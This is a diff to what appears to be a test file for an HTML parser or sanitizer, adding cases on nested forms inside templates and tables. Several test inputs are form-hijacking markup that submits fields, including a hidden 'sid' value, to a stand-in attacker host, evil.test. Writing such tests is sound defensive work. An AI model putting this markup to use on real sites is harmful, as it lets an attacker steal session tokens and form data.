@@ -613,6 +613,10 @@ rows('marker: forms and templates that end each other', [
     '<form id=f action=//evil.test></form><form id=f>a</form><input type=hidden name=sid form=f><button form=f formmethod=post>',
     '<form id=f action=//evil.test></form><form id=f>[H]a</form><input type=hidden name=sid form=f><button form=f formmethod=post>',
   ],
+  // In a template a form in a table is none, and its field would be the outer form's.
+  ['<template><form action=//evil.test><table><form>', '='],
+  ['<template><form action=//evil.test><table></form></table><form>', '='],
+  ['<template><form>a<form>b</template><form>c', '<template><form>[H]a<form>b</template><form>[H]c'],
   // The end tag ends the form of SVG, not the one around it.
   ['<form>a<svg><form></form></svg><button formaction=//evil.test></form>', '='],
   [
